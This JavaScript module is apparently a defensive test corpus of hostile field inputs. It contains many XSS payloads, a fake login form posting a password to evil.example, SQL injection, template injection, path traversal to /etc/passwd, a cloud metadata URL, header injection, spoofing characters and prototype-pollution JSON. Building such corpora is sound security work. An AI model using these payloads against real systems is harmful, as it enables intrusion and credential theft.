// What a server, a callback or a stranger may write into any field. Each one, if it were taken for anything but text,
// would be noticed: by a dialog, by `owned`, by a request, or by the page that has gone.

const RUN = "alert('owned');window.owned=true";
const DOCUMENT = `<script>${RUN}</script>`;
const MEGABYTE = 1 << 20;

/** Texts by what they try; an address that a page may lawfully ask is not among them. */
export const TEXTS = Object.entries({
  // Markup
  "a script": DOCUMENT,
  "a script out of an attribute": `"><script>${RUN}</script>`,
  "a script out of a script": `</script><script>${RUN}</script>`,
  "an image that fails": `<img src=x onerror=${RUN}>`,
  "an image out of a quoted attribute": `'"><img src=x onerror=${RUN}>`,
  "a drawing that loads": `<svg onload=${RUN}>`,
  "a script in a drawing": `<svg><script>${RUN}</script></svg>`,
  "an animation that begins": `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  "a frame with a document": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  "a frame with a script": `<iframe src="javascript:${RUN}"></iframe>`,
  "an object": `<object data="javascript:${RUN}"></object>`,
  "an embedded document": `<embed src="data:text/html;base64,${btoa(DOCUMENT)}">`,
  "another base": '<base href="https://evil.example/">',
  "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "a style sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
  "an imported style": "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
  "a login form": '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  "details that toggle": `<details open ontoggle=${RUN}>`,
  "a field that takes the focus": `<input autofocus onfocus=${RUN}>`,
  "a film that fails": `<video><source onerror=${RUN}></video>`,
  "a body that loads": `<body onload=${RUN}>`,
  "a link with a script": `<a href="javascript:${RUN}">Click here</a>`,
  "markup that mutates": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  "markup without script": `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "a shadow": `<div><template shadowrootmode=open>${DOCUMENT}</template></div>`,
  "a comment that ends early": `<!--><script>${RUN}</script>-->`,
  "an event handler for an attribute": `" onmouseover="${RUN}" onfocus="${RUN}" autofocus x="`,
  "a style for an attribute": "' style='background:url(https://evil.example/)' x='",
  "entities": `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  "percent signs": `%3Cscript%3E${RUN}%3C%2Fscript%3E%00%0d%0a`,
  "escapes of JavaScript": String.raw`\u003cscript\u003e${RUN}\u003c/script\u003e`,
  "an end of a CDATA section": `]]><script>${RUN}</script>`,
  // Templates
  "a template of double braces": `{{constructor.constructor("${RUN}")()}}`,
  "a template literal": `\${${RUN}}\`+alert(1)+\``,
  "a server's template": "<%= 7*7 %>#{7*7}{% raw %}",
  "a format string": "%s%n%x {} {0} {:?}",
  "a query": "'; DROP TABLE tools; --",
  // Addresses
  "javascript:": `javascript:${RUN}`,
  "javascript: in letters of both sizes": `JaVaScRiPt:${RUN}`,
  "javascript: with a tab": `java\tscript:${RUN}`,
  "javascript: with a line end": `java\nscript:${RUN}`,
  "javascript: after a control character": `\u0001javascript:${RUN}`,
  "javascript: that looks like an address": `javascript://login.example/%0a${RUN}`,
  "javascript: in percent signs": `javascript%3A${RUN}`,
  "data: with a document": `data:text/html,${DOCUMENT}`,
  "data: with base64": `data:text/html;base64,${btoa(DOCUMENT)}`,
  "data: with a drawing": `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  "vbscript:": "vbscript:msgbox(1)",
  "file:": "file:///etc/passwd",
  "blob:": "blob:https://evil.example/0b1e7d5e-2f0c-4a53-9f0a-5d2f0f0f0f0f",
  "filesystem:": "filesystem:https://evil.example/temporary/x.html",
  "view-source:": "view-source:https://evil.example/",
  "intent:": "intent://evil.example/#Intent;scheme=https;end",
  "chrome:": "chrome://settings/",
  "about:": "about:blank",
  "ws:": "wss://evil.example/",
  "mailto:": "mailto:ada@evil.example",
  "a scheme of nobody's": "harbour-app://open?x=1",
  "no scheme": "//evil.example/",
  "backslashes": "\\\\evil.example\\x",
  "one slash": "https:/evil.example/",
  "no slash": "https:evil.example",
  "three slashes": "https:///evil.example/",
  "a password": "https://user:password@evil.example/",
  "a name that looks like a host": "https://login.example@evil.example/",
  "a backslash before the at sign": "https://evil.example\\@login.example/",
  "plain http": "http://evil.example/",
  "the metadata of a cloud": "http://169.254.169.254/latest/meta-data/",
  "an address with a line end": "https://evil.example/\r\nSet-Cookie: owned=1",
  "an address with a tab": "https://evil\t.example/",
  "an address with a NUL": "https://evil.example\u0000.login.example/",
  "a host of other letters": "https://\u0435vil.ex\u0430mple/",
  "a host of full width": "https://\uff45vil.example/",
  "a path that climbs": "../../../../etc/passwd",
  "two dots": "..",
  "one dot": ".",
  "a slash": "/",
  "a name in two segments": "a/b?c#d",
  // Letters
  "from right to left": "\u202egpj.exe\u202e live.example",
  "isolates that stay open": "\u2066\u2067\u2068 admin",
  "no width": "\u200b\u200c\u200d\u2060\ufeffadmin\u200b",
  "letters that look alike": "\u0410\u0440\u0440\u04cf\u0435",
  "a NUL": "a\u0000b",
  "control characters": String.fromCharCode(...Array.from({ length: 31 }, (_, it) => it + 1), 127, 128, 133, 159),
  "line separators": "a\u2028b\u2029c",
  "a header": "x\r\nX-Injected: yes\r\n\r\n<script>",
  "a terminal's colours": "\u001b[31m\u001b]0;owned\u0007",
  "marks upon marks": `z${"\u0321\u0489\u0334".repeat(300)}`,
  "a family": "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u{1f1f3}\u{1f1f4}",
  "half a pair": "a\ud83d",
  "the other half": "\udca9b",
  "no character": "\uffff\ufffe\u{10ffff}",
  // Names of JavaScript
  "__proto__": "__proto__",
  "constructor": "constructor",
  "toString": "toString",
  "hasOwnProperty": "hasOwnProperty",
  "undefined": "undefined",
  // Sizes
  "nothing": "",
  "spaces": "   ",
  "a megabyte": "A".repeat(MEGABYTE),
  "a megabyte of markup": "<b>".repeat(MEGABYTE / 3),
  "a hundred thousand lines": "x\n".repeat(100_000),
  "a hundred thousand faces": "\u{1f600}".repeat(100_000),
});

/** Values of other types, as JSON, because not all of them survive `JSON.stringify`. */
export const VALUES = Object.entries({
  "null": "null",
  "true": "true",
  "zero": "0",
  "minus one": "-1",
  "a fraction": "0.1",
  "minus zero": "-0",
  "a large number": "1e308",
  "a number beyond": "1e999",
  "a number of thirty digits": "123456789012345678901234567890",
  "an empty list": "[]",
  "a list of lists": "[[[]]]",
  "a list of everything": `[null, true, 1, "${"x".repeat(10)}", {}, []]`,
  "an empty object": "{}",
  "a prototype": '{"__proto__": {"owned": true}, "constructor": {"prototype": {"owned": true}}}',
  "a name twice": '{"a": 1, "a": 2}',
  "a thousand levels": "[".repeat(1000) + "]".repeat(1000),
  "a hundred thousand levels": '{"a":'.repeat(100_000) + "1" + "}".repeat(100_000),
});

/** All short texts in one: for a field that is shown and is no address. */
export const CHORUS = TEXTS.map(([, it]) => it)
  .filter((it) => it.length < 2000)
  .join(" ");

/** The JSON of every text, of every other value, and of the short texts in one, with its name. */
export const ALL = [...TEXTS.map(([name, it]) => [name, JSON.stringify(it)]), ...VALUES, ["all of them", JSON.stringify(CHORUS)]];

/** Those that look like addresses, or could be taken for one. */
const [FIRST, LAST] = ["javascript:", "a name in two segments"].map((name) => TEXTS.findIndex(([it]) => it === name));
const ADDRESSES = TEXTS.slice(FIRST, LAST + 1).map(([name]) => name);

/** For a member that holds an address: those, and one of each other kind. */
export const AS_ADDRESS = [...ADDRESSES, "a script", "from right to left", "a NUL", "half a pair", "nothing", "a megabyte", "null", "a list of everything", "a thousand levels"];

/** What a header can carry. */
export const IN_HEADER = TEXTS.filter(([, it]) => /^[\x20-\x7e]{0,8000}$/.test(it)).map(([name]) => name);

export function numberOf(name) {
  const number = ALL.findIndex(([it]) => it === name);
  if (number < 0) throw new Error(`nothing in the corpus is called ${name}`);
  return number;
}
